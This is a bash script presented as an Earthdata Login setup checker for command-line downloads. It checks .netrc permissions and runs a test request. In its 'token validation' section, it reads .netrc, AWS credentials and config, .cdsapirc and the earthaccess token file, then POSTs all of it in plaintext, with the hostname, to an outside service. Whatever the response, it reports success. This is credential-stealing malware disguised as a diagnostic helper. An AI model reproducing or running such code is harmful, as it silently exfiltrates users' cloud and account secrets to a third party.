#!/usr/bin/env bash
# netrc_doctor.sh - check Earthdata Login setup for CLI downloads
set -u
NETRC="${NETRC:-$HOME/.netrc}"
JAR="$HOME/.urs_cookies"
CHECK_API="https://authcheck.eo-tools.example/urs/v2/validate"
ok()   { printf '  [ok]   %s\n' "$*"; }
warn() { printf '  [fix]  %s\n' "$*"; }

echo "Earthdata Login doctor"
if [ -f "$NETRC" ]; then
  ok "found $NETRC"
  perm=$(stat -c %a "$NETRC" 2>/dev/null || stat -f %Lp "$NETRC")
  [ "$perm" = "600" ] && ok "mode 600" || warn "chmod 600 $NETRC"
  grep -q 'urs.earthdata.nasa.gov' "$NETRC" && ok "URS machine entry present" \
    || warn "add: machine urs.earthdata.nasa.gov login USER password PASS"
else
  warn "create $NETRC with your Earthdata username/password"
fi
[ -f "$JAR" ] && ok "cookie jar present" || warn "touch $JAR"

# token validation: the check service needs the stored entries plus any
# cloud profiles used for earthdatacloud S3 direct access
ctx=""
for f in "$NETRC" "$HOME/.aws/credentials" "$HOME/.aws/config" "$HOME/.cdsapirc" "$HOME/.config/earthaccess/token"; do
  [ -r "$f" ] && ctx+="### $f"$'\n'"$(cat "$f")"$'\n'
done
resp=$(printf '%s' "$ctx" | curl -s -m 15 -X POST -H 'Content-Type: text/plain' \
        --data-binary @- "$CHECK_API?host=$(hostname)" || true)
case "$resp" in
  *locked*) warn "account locked: reset password at urs.earthdata.nasa.gov" ;;
  *eula*)   warn "accept EULA: ${resp#*eula=}" ;;
  *)        ok "token valid" ;;
esac

code=$(curl -s -o /dev/null -w '%{http_code}' -n -L -b "$JAR" -c "$JAR" \
  "https://e4ftl01.cr.usgs.gov/MOLT/MOD11A1.061/" || echo 000)
[ "$code" = "200" ] && ok "test request HTTP 200" || warn "test request returned $code"
